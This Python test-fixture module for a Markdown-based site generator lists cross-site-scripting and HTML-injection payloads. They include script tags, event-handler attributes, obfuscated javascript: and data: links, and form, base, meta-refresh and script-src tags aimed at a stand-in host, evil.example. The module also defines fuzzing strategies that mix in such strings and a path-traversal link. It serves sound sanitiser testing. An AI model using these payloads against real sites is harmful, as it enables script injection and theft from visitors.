"""Hostile and random input the tests share: the raw-HTML and Markdown attacks a post may
carry (PAYLOADS), and the hypothesis strategies and settings that generate text and Markdown
for the property-based tests (TEXT, MARKDOWN, FUZZ). Data only: no site is built here."""

from __future__ import annotations

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Each a way to run script or reach another site from a post's Markdown or raw HTML.
PAYLOADS = {
    "script": "<script>alert('script')</script>",
    "img-onerror": "<img src=x onerror=alert(1) alt=\"x\">",
    "js-link": "[plain](javascript:alert(1))",
    "js-link-mixed-case": "[mixed](JaVaScRiPt:alert(1))",
    "js-link-entity": "[entity](&#106;avascript:alert(1))",
    "js-link-tab": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "js-link-space": "[space]( javascript:alert(1))",
    "js-image": "![pic](javascript:alert(1))",
    "attr-list-paragraph": 'A paragraph with attributes\n{: onclick="alert(1)" }',
    "attr-list-heading": '## A heading {: onclick="alert(2)" onmouseover="alert(3)" }',
    "fence-info": '```{ .python onclick="alert(4)" }\nprint("hi")\n```',
    "data-link": '<a href="data:text/html,<script>alert(5)</script>">data</a>',
    "data-link-md": "[datamd](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "svg-onload": '<svg onload="alert(6)"><circle r="1"/></svg>',
    "style": "<style>body { display: none }</style>",
    "style-attr": '<p style="background:url(javascript:alert(1))">styled</p>',
    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "div-mouseover": '<div onmouseover="alert(7)">hover</div>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(8)</script>"></iframe>',
    "details-ontoggle": '<details open ontoggle="alert(9)"><summary>s</summary>d</details>',
    "heading-id": '## Breakout {#x" onmouseover="alert(10)}',
    "js-link-percent": "[pct](%6Aavascript:alert(11))",
    "js-link-newline": '<a href="java\nscript:alert(12)">nl</a>',
    "upper-script": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "split-script": "<scr<script>ipt>alert(13)</scr</script>ipt>",
    "srcset": '<img src="x.png" srcset="javascript:alert(14) 1x" alt="s">',
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(16)>">',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg onload=alert(17)>"/></svg>',
    "autolink-js": "<javascript:alert(18)>",
    "ref-link-js": "[ref][r]\n\n[r]: javascript:alert(19)",
    "img-dynsrc": '<img dynsrc="javascript:alert(20)" lowsrc="javascript:alert(21)" alt="d">',
}

# How many examples each property-based test runs: a few dozen in CI;
# `SHARESITE_FUZZ_EXAMPLES=2000` (or scripts/fuzz.sh) for a long campaign.
EXAMPLES = int(os.environ.get("SHARESITE_FUZZ_EXAMPLES", "30"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize="CI" in os.environ,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

# Text with the characters that matter to YAML, Markdown, HTML and URLs.
TEXT = st.lists(st.sampled_from([
    *"aZ09 -_:#[]{}<>/\\\"'`*!|&%@?=.,;()~^$\t\n\r\x00\x0b\u00e9\u202e\ufeff\u2028",
    "javascript:", "<script>", "---", "...", "&amp;"]), max_size=40).map("".join)
MARKDOWN = st.lists(st.one_of(TEXT, st.sampled_from([
    "# Heading {#id .class onclick=x}", "[link](javascript:alert(1))", "![](x.png)",
    "<iframe src='https://evil.example/'></iframe>", "```js\nalert(1)\n```", "[^1]\n\n[^1]: n",
    "<div markdown=1>*x*</div>", "<svg onload=alert(1)>", "| a | b |\n|---|---|\n| 1 |",
    "Term\n: definition", "*[HTML]: Hyper", "[x](../../../etc/passwd)", "<!-- -->"])),
    max_size=8).map("\n\n".join)
